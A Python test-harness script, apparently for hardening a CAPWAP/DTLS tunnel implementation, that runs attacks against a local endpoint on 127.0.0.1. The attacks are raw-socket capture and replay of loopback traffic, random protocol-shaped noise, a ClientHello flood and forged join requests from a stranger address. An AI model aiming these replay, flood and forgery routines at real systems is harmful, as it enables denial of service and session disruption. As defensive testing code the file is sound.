"""Attacks a tunnel's end from its own machine: what a stranger on the road could do.

usage: attacker.py replay-to-served SECONDS  hears the road for so long, then sends every datagram
                                             to the end that serves again
       attacker.py replay-to-joined SECONDS  the same of what goes to the end that joined
       attacker.py noise COUNT               random datagrams, some of which begin as CAPWAP or
                                             DTLS do
       attacker.py flood COUNT               ClientHellos that never prove their address
       attacker.py strangers COUNT           noise and a request to join from each of so many ports
                                             of an address that is not the peer's
"""

import functools
import random
import socket
import struct
import sys
import time

PORTS = (5246, 5247)
ETH_P_IP = 0x0800
SOURCE_PORT, DESTINATION_PORT = 34, 36  # where they are in a frame
JOIN_REQUEST, SESSION_ID = 3, 35


def replay(served_port, seconds):
    """What has a port of the serving end there is heard on loopback, and sent again as it was."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as road:
        road.bind(('lo', 0))
        road.settimeout(0.1)
        heard, deadline = [], time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                frame, address = road.recvfrom(65536)
            except TimeoutError:
                continue
            is_udp = frame[23] == socket.IPPROTO_UDP
            if address[2] != socket.PACKET_OUTGOING and is_udp \
                    and struct.unpack_from('!H', frame, served_port)[0] in PORTS:
                packet = bytearray(frame[14:])
                packet[26:28] = b'\0\0'  # no checksum: on this road nobody has filled it in
                heard.append(packet)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as forger:
        for packet in heard:
            forger.sendto(packet, ('127.0.0.1', 0))
    return len(heard)


def noise(count):
    source = random.Random(1)
    heads = (b'', b'\x00\x10\x42\x00', b'\x01\x00\x00\x00', b'\x01\x00\x00\x00\x16\xfe\xff',
             b'\x01\x00\x00\x00\x17\xfe\xfd\x00\x01')
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
        for _ in range(count):
            octets = source.choice(heads) + source.randbytes(source.randrange(1, 400))
            stranger.sendto(octets, ('127.0.0.1', source.choice(PORTS)))
    return count


def flood(count):
    """The same first message from ever new ports."""
    body = b'\xfe\xfd' + bytes(32) + b'\x00\x00' + b'\x00\x02\x00\xaa' + b'\x01\x00'
    length = len(body).to_bytes(3, 'big')
    hello = b'\x01' + length + b'\x00\x00' + b'\x00\x00\x00' + length + body
    record = b'\x16\xfe\xff' + bytes(8) + struct.pack('!H', len(hello)) + hello
    for i in range(count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
            stranger.sendto(b'\x01\x00\x00\x00' + record, ('127.0.0.1', PORTS[i % 2]))
    return count


def strangers(count):
    source = random.Random(1)
    for _ in range(count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
            stranger.bind(('127.0.0.2', 0))
            for port in PORTS:
                stranger.sendto(source.randbytes(100), ('127.0.0.1', port))
            stranger.sendto(join_request(source.randbytes(16)), ('127.0.0.1', PORTS[0]))
    return 3 * count


def join_request(session):
    """[RFC 5415 4.3, 4.5, 4.6.37]"""
    header = struct.pack('!IHH', 2 << 19 | 1 << 14 | 1 << 9, 0, 0)
    elements = struct.pack('!HH', SESSION_ID, len(session)) + session
    return header + struct.pack('!IBHB', JOIN_REQUEST, 0, 3 + len(elements), 0) + elements


ATTACKS = {'replay-to-served': functools.partial(replay, DESTINATION_PORT),
           'replay-to-joined': functools.partial(replay, SOURCE_PORT),
           'noise': noise, 'flood': flood, 'strangers': strangers}

if __name__ == '__main__':
    print('sent', ATTACKS[sys.argv[1]](int(sys.argv[2])))
